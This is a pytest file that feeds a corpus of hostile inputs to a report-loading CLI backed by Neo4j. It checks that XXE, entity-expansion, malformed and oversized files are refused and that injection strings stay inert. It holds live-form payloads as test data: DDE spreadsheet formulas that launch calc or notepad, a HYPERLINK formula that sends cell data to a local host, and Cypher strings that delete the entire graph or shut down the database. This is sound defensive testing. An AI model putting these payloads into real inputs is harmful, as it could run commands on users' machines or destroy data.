"""The hostile corpus (tests/hostile/) loaded through the real CLI into a real Neo4j.

Every file either loads what is valid and names each refused value (file, record, path, reason),
or is refused with its file, position and reason; nothing hangs, nothing crashes with a traceback,
and `--strict` loads nothing of a file with any fault. Text that is data (formulas, Cypher) is
stored as written, found as plain text, and made inert in the exports spreadsheets open.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest
from lxml import etree

from graph_service.settings import Settings
from loaders.writer import GraphWriter
from queries.charts import chart_graph, save_chart
from queries.context import GraphContext
from queries.search import search
from tests.test_load import cli_env, counts, load  # noqa: F401  (cli_env is a fixture)
from ui.exports import render
from ui.exports.cells import runs_as_formula
from ui.exports.model import build_document

HOSTILE = Path(__file__).resolve().parent / "hostile"
ROOT = HOSTILE.parent.parent
#: A position as the loader gives it: XML line and column, or a CSV/JSON row or byte.
POSITION = re.compile(r"line \d+, column \d+|row \d+|line \d+, byte \d+")
FORMULAS = ["=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")']
CYPHER = ["' }) MATCH (n) DETACH DELETE n //", '" }) MATCH (n) DETACH DELETE n //', "x` DETACH DELETE n //",
          "$key}) CALL dbms.shutdown() //", "\\u0027 OR 1=1 //"]


def report_keys(graph: GraphWriter, prefix: str) -> list[str]:
    records, _, _ = graph.driver.execute_query(
        "MATCH (r:Report) WHERE r.key STARTS WITH $p RETURN r.key AS key ORDER BY key", p=prefix,
        database_=graph.database)
    return [r["key"] for r in records]


def no_crash(output: str) -> None:
    assert "Traceback" not in output and "Error:" not in output.replace("error:", ""), output


# --- files refused as a whole -------------------------------------------------------------------------

REFUSED = {
    "xxe.xml": ("cybertip:9500101", "DOCTYPE"),
    "xxe_parameter.xml": ("cybertip:9500102", "DOCTYPE"),
    "billion_laughs.xml": ("cybertip:9500103", "DOCTYPE"),
    "quadratic_blowup.xml": ("cybertip:9500104", "DOCTYPE"),
    "external_dtd.xml": ("cybertip:9500105", "DOCTYPE"),
    "deeply_nested.xml": ("cybertip:9500107", "Excessive depth"),
    "nul_char_reference.xml": ("cybertip:9500112", "invalid xmlChar value 0"),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_file_refused_as_a_whole_names_file_position_and_reason_and_writes_nothing(
        graph: GraphWriter, cli_env: None, name: str) -> None:  # noqa: F811
    key, reason = REFUSED[name]
    before = counts(graph)
    code, output = load("cybertip", str(HOSTILE / name))
    no_crash(output)
    assert code == 1
    line = next(line for line in output.splitlines() if name in line and "error" in line)
    assert POSITION.search(line) and reason in line, line
    assert counts(graph) == before
    assert report_keys(graph, key) == []


def test_entities_are_never_expanded_nor_fetched(graph: GraphWriter, cli_env: None) -> None:  # noqa: F811
    for name in ("xxe.xml", "billion_laughs.xml", "quadratic_blowup.xml"):
        load("cybertip", str(HOSTILE / name))
    records, _, _ = graph.driver.execute_query(
        "MATCH (n) WHERE any(v IN n.screen_names WHERE v CONTAINS 'root:' OR v CONTAINS 'lollol') "
        "OR any(v IN n.display_names WHERE size(v) > 10000) RETURN count(n) AS c", database_=graph.database)
    assert records[0]["c"] == 0


def test_xinclude_is_not_processed(graph: GraphWriter, cli_env: None) -> None:  # noqa: F811
    code, output = load("cybertip", str(HOSTILE / "xinclude.xml"))
    assert code == 0, output
    records, _, _ = graph.driver.execute_query(
        "MATCH (a:Account {key: 'example social:u-xinclude'}) RETURN a.screen_names AS names",
        database_=graph.database)
    assert [r["names"] for r in records] == [None]


# --- files cut short by bad bytes ---------------------------------------------------------------------

@pytest.mark.parametrize(("name", "good", "bad", "reason"), [
    ("invalid_utf8.xml", "cybertip:9500108", "cybertip:9500109", "Invalid bytes in character encoding"),
    ("nul_byte.xml", "cybertip:9500110", "cybertip:9500111", "Char 0x0 out of allowed range"),
])
def test_bad_bytes_keep_the_reports_before_them_or_nothing_under_strict(
        graph: GraphWriter, cli_env: None, tmp_path: Path, name: str, good: str, bad: str,  # noqa: F811
        reason: str) -> None:
    strict_copy = shutil.copy(HOSTILE / name, tmp_path / name)
    code, output = load("cybertip", "--strict", str(strict_copy))
    no_crash(output)
    assert code == 1 and "not loaded (--strict)" in output
    assert report_keys(graph, good) == report_keys(graph, bad) == []
    code, output = load("cybertip", str(HOSTILE / name))
    assert code == 1
    line = next(line for line in output.splitlines() if name in line and "error" in line)
    assert POSITION.search(line) and reason in line, line
    assert report_keys(graph, good) == [good]
    assert report_keys(graph, bad) == []


# --- bad values inside good reports -------------------------------------------------------------------

def test_every_kind_of_bad_identifier_is_named_and_the_rest_loads(graph: GraphWriter, cli_env: None) -> None:  # noqa: F811
    name = "bad_identifiers_every_kind.xml"
    code, output = load("cybertip", str(HOSTILE / name))
    no_crash(output)
    assert code == 0, output
    rejected = [line for line in output.splitlines() if line.startswith("rejected:")]
    kinds = {"email", "phone", "ip", "timestamp", "date", "device", "hash", "cryptographic"}
    for kind in kinds:
        assert any(kind in line for line in rejected), kind
    for line in rejected:
        assert f"{name}: record cybertip:9500113 at " in line, line
    assert report_keys(graph, "cybertip:9500113") == ["cybertip:9500113"]
    records, _, _ = graph.driver.execute_query(
        "MATCH (:Report {key: 'cybertip:9500113'})-[:REPORTS]->(a:Account) RETURN a.key AS key",
        database_=graph.database)
    assert [r["key"] for r in records] == ["example social:u-good-1"]
    bad_values = ["999.1.1.1", "192.0.2.1:8080", "abc123", "490154203237519", "plainaddress", "two@@example.com"]
    records, _, _ = graph.driver.execute_query(
        "MATCH (n) WHERE any(v IN $bad WHERE n.key CONTAINS v) RETURN n.key AS key", bad=bad_values,
        database_=graph.database)
    assert records == []


def test_strict_loads_nothing_of_a_report_with_one_bad_identifier(graph: GraphWriter, cli_env: None,  # noqa: F811
                                                                 tmp_path: Path) -> None:
    copy = shutil.copy(HOSTILE / "dates_year_0_and_9999.xml", tmp_path / "dates.xml")
    graph.driver.execute_query("MATCH (r:Report) WHERE r.key STARTS WITH 'cybertip:95001' DETACH DELETE r",
                               database_=graph.database)
    code, output = load("cybertip", "--strict", str(copy))
    assert code == 1 and "not loaded (--strict)" in output
    assert report_keys(graph, "cybertip:95001") == []


def test_dates_in_year_0_and_9999_are_rejected_and_the_reports_kept(graph: GraphWriter, cli_env: None) -> None:  # noqa: F811
    code, output = load("cybertip", str(HOSTILE / "dates_year_0_and_9999.xml"))
    no_crash(output)
    assert code == 0, output
    for value in ("0000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-05:00",
                  "10000-01-01T00:00:00Z", "2024-06-30T23:59:60Z", "'0000-01-01'", "'1990-02-30'"):
        assert any(value in line for line in output.splitlines() if line.startswith("rejected:")), value
    assert report_keys(graph, "cybertip:95001") == [f"cybertip:950012{n}" for n in range(5)]
    records, _, _ = graph.driver.execute_query(
        "MATCH (n) WHERE (n:Report AND n.key STARTS WITH 'cybertip:95001' AND n.incident_at IS NOT NULL) "
        "OR (n:Person AND n.key STARTS WITH 'cybertip:95001' AND n.date_of_birth IS NOT NULL) "
        "OR (n:IP AND n.key STARTS WITH '192.0.2.6' AND n.first_seen IS NOT NULL) RETURN count(n) AS c",
        database_=graph.database)
    assert records[0]["c"] == 0


# --- text that is data: stored as written, found as text, inert in exports ------------------------------

def screen_names(graph: GraphWriter, prefix: str) -> dict[str, list[str]]:
    records, _, _ = graph.driver.execute_query(
        "MATCH (a:Account) WHERE a.key STARTS WITH $p RETURN a.key AS key, a.screen_names AS names",
        p=prefix, database_=graph.database)
    return {r["key"]: r["names"] for r in records}


def test_cypher_in_referrals_is_stored_and_found_as_plain_text(graph: GraphWriter, cli_env: None,  # noqa: F811
                                                               driver: object, neo4j_settings: Settings) -> None:
    before = counts(graph)
    code, output = load("cybertip", str(HOSTILE / "cypher_injection.xml"))
    no_crash(output)
    assert code == 0, output
    nodes_before, _ = before
    nodes_after, _ = counts(graph)
    assert all(nodes_after.get(label, 0) >= n for label, n in nodes_before.items())  # nothing deleted
    stored = sorted(name for names in screen_names(graph, "example social:").values() for name in names or [])
    for n, text in enumerate(CYPHER):
        assert f"{text} {n}" in stored
    ctx = GraphContext(graph.driver, graph.database)
    hits = search(ctx, "DETACH DELETE", kinds=["Account"], limit=20)
    assert {h.entity.key for h in hits} >= {f"example social:{CYPHER[n]} {n}" for n in (0, 1, 2)}


def test_formulas_are_stored_as_written_and_inert_in_spreadsheet_exports(
        graph: GraphWriter, cli_env: None, tmp_path: Path) -> None:  # noqa: F811
    code, output = load("cybertip", str(HOSTILE / "formula_injection.xml"))
    assert code == 0, output
    names = screen_names(graph, "example social:u-formula-")
    assert sorted(n for v in names.values() for n in v) == sorted(FORMULAS)
    ctx = GraphContext(graph.driver, graph.database)
    ids = [f"Account:{key}" for key in names] + ["Account:example social:u-markup", "Report:cybertip:9500130",
                                                  "Provider:example social"]
    state = {"nodes": [{"id": i, "x": 10.0 * n, "y": -5.0 * n} for n, i in enumerate(ids)]}
    chart = save_chart(ctx, "=case|' /C calc'!A0", "@chart=1+1", state, author="-analyst")
    doc = build_document(chart_graph(ctx, chart), exported_by="+analyst")
    assert len(doc.nodes) == len(ids) and doc.edges
    for fmt in ("graphml", "gexf", "anx", "ftm"):
        texts = exported_texts(fmt, render(doc, fmt))
        assert any("cmd|" in t for t in texts), fmt  # the text is there, as text
        live = [t for t in texts if runs_as_formula(t)]
        assert live == [], (fmt, live[:5])
    page = render(doc, "html").decode()
    assert "<img src=x" not in page and "\\u003cimg src=x" in page  # JSON for innerText, never markup
    assert render(doc, "pdf").startswith(b"%PDF")


def exported_texts(fmt: str, data: bytes) -> list[str]:
    """Every text value and attribute value a reader of the file would put in a cell."""
    if fmt == "ftm":
        out: list[str] = []
        for line in data.decode().splitlines():
            for values in json.loads(line)["properties"].values():
                out.extend(values)
        return out
    root = etree.fromstring(data)
    texts = [t.strip() for t in root.itertext() if t.strip()]
    texts += [v for el in root.iter() if isinstance(el.tag, str) for v in el.attrib.values()]
    return texts


# --- 100 MB of text in one element or cell ---------------------------------------------------------------

def write_huge(path: Path, head: bytes, tail: bytes, megabytes: int = 100) -> None:
    chunk = b"A" * (1 << 20)
    with path.open("wb") as f:
        f.write(head)
        for _ in range(megabytes):
            f.write(chunk)
        f.write(tail)


def run_cli_measuring(args: list[str], env: dict[str, str]) -> tuple[int, str, float]:
    """Run the CLI in its own process; its exit code, output and peak resident memory (MB, with children)."""
    process = subprocess.Popen([sys.executable, "-m", "graph_service.cli", *args], cwd=ROOT, env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    peak = 0.0
    done = threading.Event()

    def watch() -> None:
        nonlocal peak
        proc = psutil.Process(process.pid)
        while not done.is_set():
            try:
                rss = proc.memory_info().rss + sum(c.memory_info().rss for c in proc.children(recursive=True))
            except psutil.Error:
                break
            peak = max(peak, rss / 2**20)
            time.sleep(0.05)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    output, _ = process.communicate(timeout=300)
    done.set()
    watcher.join()
    return process.returncode, output, peak


@pytest.mark.parametrize(("name", "head", "tail", "reason"), [
    ("huge_text.xml", b"<reports><report><reportId>9500150</reportId><personOrUserReported><espIdentifier>"
     b"u-huge</espIdentifier></personOrUserReported></report><report><reportId>9500151</reportId>"
     b"<additionalInfo>", b"</additionalInfo></report></reports>", "Text node too long"),
    ("huge_cell.csv", b"account_id,ip,timestamp\nu-huge-1,192.0.2.90,2024-03-05T12:15:00Z\nu-huge-2,",
     b",2024-03-05T12:15:00Z\n", "field larger than field limit"),
])
def test_100_mb_of_text_is_refused_in_flat_memory(graph: GraphWriter, neo4j_settings: Settings, tmp_path: Path,
                                                  name: str, head: bytes, tail: bytes, reason: str) -> None:
    path = tmp_path / name
    write_huge(path, head, tail)
    env = {**os.environ, "NEO4J_URI": neo4j_settings.bolt_uri, "NEO4J_DATABASE": neo4j_settings.neo4j_database}
    if name.endswith(".xml"):
        args = ["load", "cybertip", str(path)]
    else:
        args = ["load", "table", str(path), "--mapping", str(ROOT / "docs" / "mappings" / "login_ips.yaml")]
    code, output, peak_mb = run_cli_measuring(args, env)
    no_crash(output)
    assert code == 1, output
    line = next(line for line in output.splitlines() if name in line and "error" in line)
    assert POSITION.search(line) and reason in line, line
    assert peak_mb < 1024, peak_mb
    if name.endswith(".xml"):
        assert report_keys(graph, "cybertip:950015") == ["cybertip:9500150"]


def test_formula_cells_of_a_table_are_stored_as_text_or_rejected(graph: GraphWriter, cli_env: None) -> None:  # noqa: F811
    code, output = load("table", str(HOSTILE / "formula_injection.csv"), "--mapping",
                        str(ROOT / "docs" / "mappings" / "login_ips.yaml"))
    no_crash(output)
    assert code == 0, output
    assert any("formula_injection.csv: record row 6 at ip" in line and "'=1+1'" in line
               for line in output.splitlines()), output
    records, _, _ = graph.driver.execute_query(
        "MATCH (a:Account)-[:USED_IP]->(ip:IP) WHERE ip.key STARTS WITH '192.0.2.7' RETURN a.key AS key",
        database_=graph.database)
    keys = sorted(r["key"] for r in records)
    cells = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
    assert keys == sorted(f"acme chat:{cell}" for cell in cells), keys
